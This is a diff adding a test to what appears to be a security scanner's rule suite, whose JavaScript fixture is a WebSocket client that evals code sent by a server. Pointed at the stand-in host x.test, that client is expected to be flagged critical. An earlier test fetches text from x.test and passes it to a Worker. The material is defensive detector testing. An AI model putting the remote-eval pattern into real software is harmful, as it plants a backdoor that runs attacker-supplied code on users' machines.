@@ -122,3 +122,16 @@ def test_makers_in_disguise(look, source):
 def test_a_worker_of_a_file_is_no_code(look):
     source = 'const { Worker } = require("worker_threads"); fetch("https://x.test/a").then((r) => r.text()).then((t) => new Worker(t, { eval: false }))'
     assert look(RULE, source) == []
+
+
+def test_a_socket_to_an_address_that_the_user_of_the_module_gives(look):
+    source = """class Client {{
+  constructor(url) {{
+    this.ws = new WebSocket({address});
+    this.ws.onmessage = (message) => {{ eval(JSON.parse(message.data).code) }};
+  }}
+}}
+module.exports = Client;
+"""
+    assert [fact[1:3] for fact in look(RULE, source.format(address="url"))] == [("MEDIUM", "LOW")]
+    assert [fact[1:3] for fact in look(RULE, source.format(address='"wss://x.test/a"'))] == [("CRITICAL", "HIGH")]
